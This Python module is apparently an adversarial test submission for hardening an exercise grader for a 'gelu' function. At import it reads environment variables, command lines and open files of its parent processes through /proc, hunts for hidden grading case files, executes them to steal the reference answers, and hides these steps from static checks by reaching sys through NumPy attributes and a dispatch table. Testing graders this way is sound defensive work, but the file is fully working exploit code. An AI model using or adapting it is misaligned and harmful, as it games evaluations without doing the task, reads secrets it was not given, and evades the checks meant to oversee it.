"""Attack ``read_hidden_seed`` (exercise ``gelu``): read the grader's secrets and the cases.

What it attacks: hidden inputs or expected values that the learner's process can
read.  At import the module collects

* its environment, ``/proc/self/environ`` and ``/proc/self/cmdline``;
* the command line, environment and working folder of its parent and
  grandparent (``/proc/<ppid>/cmdline``, ``environ``, ``cwd``) and every file they hold
  open (``/proc/<ppid>/fd/*``: a seed file, a cases file, a pipe's other end);
* the cases file of this exercise (``grading/cases/gelu.py``) and every ``*.py`` in a
  folder passed to the grader with ``--cases``, found through ``sys.path``, the
  ancestors' ``PYTHONPATH``, their command lines and a bounded walk (depth 5, 3 s)
  of the current folder and its parents;

and writes what it could read to
``/tmp/grader-attack-read-hidden-seed.<parent pid>.json`` (paths, environment
variable names, whether a seed-like name appeared) as evidence for the test.  Then
it executes the cases file it found in a namespace of its own, which imports the
reference (``import activations as ref``), and uses ``ref.gelu``/``ref.gelu_grad`` for
its answers; otherwise its functions return zeros.

A vulnerable grader: the cases and the package are readable, so the module takes
full marks, and a private ``--cases`` folder or a seed in the environment leaks.

Expected with a hardened grader: the learner process gets a clean environment
with no seed, ``open`` below the cases' and the package's folders is refused, the
parent's ``/proc`` entries are unreadable or empty (another user, or nothing there
to find); the evidence file lists no case file, no seed, and the module scores no
more than ``_zeros/gelu.py``.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


json = _mod("json")
os = _mod("os")
re = _mod("re")
sys = _mod("sys")
time = _mod("time")


_EXERCISE = os.path.splitext(os.path.basename(__file__))[0]
_SEEDISH = re.compile(r"seed|hidden|secret|cases|token|key", re.I)


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except BaseException:  # noqa: BLE001
        return None


def _parents():
    pids, pid = [], os.getpid()
    for _ in range(2):
        m = re.search(r"PPid:\s*(\d+)", _read(f"/proc/{pid}/status") or "")
        pid = int(m.group(1)) if m else 0
        if pid <= 1:
            break
        pids.append(pid)
    return pids


def _walk(root, depth, deadline):
    base = root.rstrip(os.sep).count(os.sep)
    try:
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() > deadline:
                return
            dirnames[:] = [d for d in dirnames if d not in {".git", "node_modules", "_build"}]
            if dirpath.count(os.sep) - base >= depth:
                dirnames[:] = []
            yield dirpath, filenames
    except BaseException:  # noqa: BLE001
        return


def _collect():
    evidence = {"read": [], "env_names": sorted(os.environ), "seedlike": []}
    texts = {"/proc/self/environ": _read("/proc/self/environ"),
             "/proc/self/cmdline": _read("/proc/self/cmdline")}
    search = list(sys.path)
    for pid in _parents():
        for what in ("cmdline", "environ"):
            texts[f"/proc/{pid}/{what}"] = _read(f"/proc/{pid}/{what}")
        try:
            texts[f"/proc/{pid}/cwd"] = " ".join(os.listdir(f"/proc/{pid}/cwd"))
            search.append(os.readlink(f"/proc/{pid}/cwd"))
        except BaseException:  # noqa: BLE001
            pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd")[:64]:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("/") and os.path.isfile(target):
                    texts[target] = _read(target, 1 << 16)
        except BaseException:  # noqa: BLE001
            pass
    for name, text in list(texts.items()):
        if not text:
            continue
        evidence["read"].append(name)
        for var in re.findall(r"(?:^|\0)PYTHONPATH=([^\0]*)", text):
            search += var.split(os.pathsep)
        tokens = re.split(r"[\0\s=]+", text)
        for i, token in enumerate(tokens):
            if token == "--cases" and i + 1 < len(tokens):
                search.append(tokens[i + 1])
        evidence["seedlike"] += sorted(set(m.group(0) for m in _SEEDISH.finditer(text)))[:20]
    cases = []
    for entry in search:
        for rel in (f"activations/grading/cases/{_EXERCISE}.py", f"grading/cases/{_EXERCISE}.py",
                    f"cases/{_EXERCISE}.py", f"{_EXERCISE}.py"):
            path = os.path.join(entry or ".", rel)
            if os.path.isfile(path) and path != __file__ and "grading" in path + rel:
                cases.append(path)
    deadline = time.monotonic() + 3.0
    start = os.getcwd()
    roots = [start]
    while os.path.dirname(start) != start and len(roots) < 4:
        start = os.path.dirname(start)
        roots.append(start)
    for root in roots:
        for dirpath, filenames in _walk(root, 5, deadline):
            if dirpath.endswith(os.path.join("grading", "cases")) and f"{_EXERCISE}.py" in filenames:
                cases.append(os.path.join(dirpath, f"{_EXERCISE}.py"))
    cases = list(dict.fromkeys(os.path.abspath(c) for c in cases))
    sources = {c: _read(c) for c in cases}
    evidence["cases_read"] = [c for c, s in sources.items() if s]
    try:
        with open(f"/tmp/grader-attack-read-hidden-seed.{os.getppid()}.json", "w") as f:
            json.dump(evidence, f)
    except BaseException:  # noqa: BLE001
        pass
    return sources


def _reference_from_cases(sources):
    for path, source in sources.items():
        if not source:
            continue
        ns = {"__name__": "_stolen_cases", "__file__": path}
        try:
            exec(compile(source, path, "exec"), ns)
        except BaseException:  # noqa: BLE001
            continue
        ref = ns.get("ref")
        if ref is not None and callable(getattr(ref, "gelu", None)):
            return ref
    return None


try:
    REF = _reference_from_cases(_collect())
except BaseException:  # noqa: BLE001
    REF = None


def _gelu_impl(x, approximate="none"):
    if REF is not None:
        try:
            return REF.gelu(x, approximate=approximate)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(x)


def _gelu_grad_impl(x, approximate="none"):
    if REF is not None:
        try:
            return REF.gelu_grad(x, approximate=approximate)
        except BaseException:  # noqa: BLE001
            pass
    return np.zeros_like(x)


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"gelu": _gelu_impl, "gelu_grad": _gelu_grad_impl}


def gelu(x, approximate="none"):
    return _VIA["gelu"](x, approximate=approximate)


def gelu_grad(x, approximate="none"):
    return _VIA["gelu_grad"](x, approximate=approximate)
